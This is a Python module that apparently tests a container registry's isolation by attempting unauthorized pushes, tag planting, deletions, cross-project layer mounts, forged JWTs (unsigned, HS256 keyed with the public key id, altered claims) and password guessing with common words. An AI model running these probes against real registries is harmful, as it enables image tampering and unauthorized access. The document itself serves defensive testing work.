"""Writes to the registry: to its own repository, another project's, a base image's, the service's.

`basic` are user and password, which only the control has.
"""

import base64
import hashlib
import hmac
import http.client
import json
import re
import time
import urllib.request
from urllib.parse import urlencode, urlsplit

import tries
from tries import Stopped, attempt

TARGETS = ("own", "other", "base", "service")
MANIFEST = "application/vnd.docker.distribution.manifest.v2+json"
ACCEPT = f"{MANIFEST}, application/vnd.oci.image.manifest.v1+json"
PARAMETER = re.compile(r'([a-z]+)="([^"]*)"')


def _once(places, method, path, body=b"", headers=None, bearer=""):
    target = urlsplit(path)
    connection = http.client.HTTPConnection(*places["registry"], timeout=20)
    try:
        sent = {**(headers or {}), **({"Authorization": f"Bearer {bearer}"} if bearer else {})}
        address = f"{target.path}?{target.query}" if target.query else target.path
        connection.request(method, address, body, sent)
        answer = connection.getresponse()
        return answer.status, dict(answer.getheaders()), answer.read()
    finally:
        connection.close()


def _token(places, challenge, basic):
    parameters = dict(PARAMETER.findall(challenge))
    query = urlencode({name: parameters[name] for name in ("service", "scope") if name in parameters})
    headers = {"Authorization": f"Basic {basic}"} if basic else {}
    asked = urllib.request.Request(f"{parameters['realm']}?{query}", headers=headers)
    with urllib.request.urlopen(asked, timeout=20) as answer:
        return json.load(answer)["token"]


def call(places, method, path, body=b"", headers=None, may_be_gone=False):
    """Headers and body. Raises Stopped for a refusal, and unless `may_be_gone` for what is not there."""
    status, received, content = _once(places, method, path, body, headers)
    challenge = received.get("Www-Authenticate") or received.get("WWW-Authenticate") or ""
    if status == 401 and challenge:
        bearer = _token(places, challenge, places.get("basic", ""))
        status, received, content = _once(places, method, path, body, headers, bearer)
    if status >= 400 and not (status == 404 and may_be_gone):
        raise Stopped(f"{method} {path}: {status} {content[:60]!r}")
    return received, content


def _for_each(function):
    for target in TARGETS:

        def work(places, target=target):
            return function(places, places["repositories"][target], target)

        work.__name__ = f"{function.__name__.strip('_')}_{target}"
        tries.attempt(work)


@_for_each
def _begin_a_push_to(places, repository, target):
    received, _ = call(places, "POST", f"/v2/{repository}/blobs/uploads/")
    return received["Location"][:60]


@_for_each
def _push_a_layer_to(places, repository, target):
    layer = f"planted {time.time()}".encode()
    received, _ = call(places, "POST", f"/v2/{repository}/blobs/uploads/")
    location = urlsplit(received["Location"])
    digest = urlencode({"digest": f"sha256:{hashlib.sha256(layer).hexdigest()}"})
    query = f"{location.query}&{digest}" if location.query else digest
    headers = {"Content-Type": "application/octet-stream"}
    call(places, "PUT", f"{location.path}?{query}", layer, headers)
    return "pushed"


@_for_each
def _plant_a_tag_in(places, repository, target):
    """Under the tag that the next build looks for; the control takes one that no build looks for."""
    _, manifest = call(
        places, "GET", f"/v2/{repository}/manifests/{places['digests'][target]}", b"", {"Accept": ACCEPT}
    )
    kind = json.loads(manifest).get("mediaType", MANIFEST)
    call(
        places,
        "PUT",
        f"/v2/{repository}/manifests/{places['tags'][target]}",
        manifest,
        {"Content-Type": kind},
    )
    return "planted"


@_for_each
def _delete_from(places, repository, target):
    """The named base and service are absent, so that an open registry does not lose the real ones."""
    call(places, "DELETE", f"/v2/{repository}/manifests/{places['doomed'][target]}", may_be_gone=True)
    return "deleted"


@attempt
def take_over_a_layer(places):
    """Mounts a layer of another project into its own repository."""
    query = urlencode({"mount": places["layer"], "from": places["repositories"]["other"]})
    call(places, "POST", f"/v2/{places['repositories']['own']}/blobs/uploads/?{query}")
    return "taken"


@attempt
def list_all_repositories(places):
    return call(places, "GET", "/v2/_catalog")[1][:100]


def _upload_with(places, bearer, repository="other"):
    path = f"/v2/{places['repositories'][repository]}/blobs/uploads/"
    status, _, content = _once(places, "POST", path, bearer=bearer)
    if status >= 400:
        raise Stopped(f"{status} {content[:60]!r}")
    return status


def _challenge(places, method="POST", repository="other"):
    path = f"/v2/{places['repositories'][repository]}/"
    path += "blobs/uploads/" if method == "POST" else "tags/list"
    _, received, _ = _once(places, method, path)
    return received.get("Www-Authenticate") or received.get("WWW-Authenticate") or ""


@attempt
def push_with_a_token_for_pulling(places):
    return _upload_with(places, _token(places, _challenge(places, "GET"), ""))


@attempt
def push_with_a_token_that_asked_for_more(places):
    return _upload_with(places, _token(places, _challenge(places), places.get("basic", "")))


def _segment(value):
    return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()


def _claims(places):
    parameters, now = dict(PARAMETER.findall(_challenge(places))), int(time.time())
    access = [{"type": "repository", "name": places["repositories"]["other"], "actions": ["pull", "push"]}]
    times = {"iat": now, "nbf": now - 10, "exp": now + 600}
    return {
        "iss": "crewyard-ground",
        "aud": parameters.get("service", ""),
        "sub": "crews",
        "access": access,
        **times,
    }


@attempt
def push_with_a_token_without_a_signature(places):
    return _upload_with(places, f"{_segment({'typ': 'JWT', 'alg': 'none'})}.{_segment(_claims(places))}.")


@attempt
def push_with_a_token_of_another_kind_of_signature(places):
    """Signed with what everybody knows, a public name, in the place of a secret."""
    real = _token(places, _challenge(places, "GET"), "")
    name = json.loads(base64.urlsafe_b64decode(real.split(".")[0] + "==")).get("kid", "")
    body = f"{_segment({'typ': 'JWT', 'alg': 'HS256', 'kid': name})}.{_segment(_claims(places))}"
    made = hmac.new(name.encode(), body.encode(), hashlib.sha256).digest()
    return _upload_with(places, f"{body}.{base64.urlsafe_b64encode(made).rstrip(b'=').decode()}")


@attempt
def push_with_other_claims_under_a_true_signature(places):
    head, _, signature = _token(places, _challenge(places, "GET"), "").split(".")
    return _upload_with(places, f"{head}.{_segment(_claims(places))}.{signature}")


@attempt
def guess_a_password(places):
    """Of the installation, of another project, of its own."""
    own, other = places["repositories"]["own"], places["repositories"]["other"]
    pairs = [
        (user, word) for user in ("crews", other, own) for word in ("", user, "crews", "admin", "password")
    ]
    coded = [places["basic"]] if "basic" in places else []
    coded += [base64.b64encode(f"{user}:{word}".encode()).decode() for user, word in pairs]
    refused = []
    for one in coded:
        try:
            return _upload_with(places, _token(places, _challenge(places), one))
        except (OSError, Stopped) as error:
            refused.append(str(error))
    raise Stopped(refused[-1])
